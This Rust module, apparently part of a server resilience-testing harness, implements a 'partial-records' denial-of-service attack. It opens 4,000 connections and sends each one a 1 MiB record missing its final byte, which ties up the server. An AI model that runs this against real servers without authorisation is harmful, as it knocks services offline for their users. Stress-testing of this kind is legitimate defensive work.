//! Records of 1 MiB of which the last byte never comes.

use std::any::Any;
use std::io::{self, Write};

use wire::record::Fragment;

use super::attack::{Attack, Scene};
use super::calls::{MIB, one_of_many};

const CONNECTIONS: usize = 4000;
const OF_HOST: usize = 1000;

pub(super) const ATTACK: Attack = Attack {
    name: "partial-records",
    about: "4,000 connections of 4 addresses send all of a record of 1 MiB but its last byte",
    tree: None,
    options: &[],
    begin,
};

fn begin(scene: &Scene) -> io::Result<Box<dyn Any + Send>> {
    let mark = Fragment { last: true, len: MIB }.to_header();
    let partial = [&mark[..], &vec![0; MIB as usize - 1]].concat();
    let mut open = Vec::new();
    for number in 0..CONNECTIONS {
        let stream = one_of_many(number, OF_HOST, scene.address)?;
        stream.set_nonblocking(true)?;
        open.push((stream, 0));
    }
    // In turns, as far as it is taken.
    let mut has_sent = true;
    while has_sent {
        has_sent = false;
        for (stream, at) in &mut open {
            match stream.write(&partial[*at..]) {
                Ok(count) => {
                    *at += count;
                    has_sent |= count > 0 && *at < partial.len();
                }
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
                // It may have been given up already.
                Err(_) => *at = partial.len(),
            }
        }
    }
    Ok(Box::new(open))
}
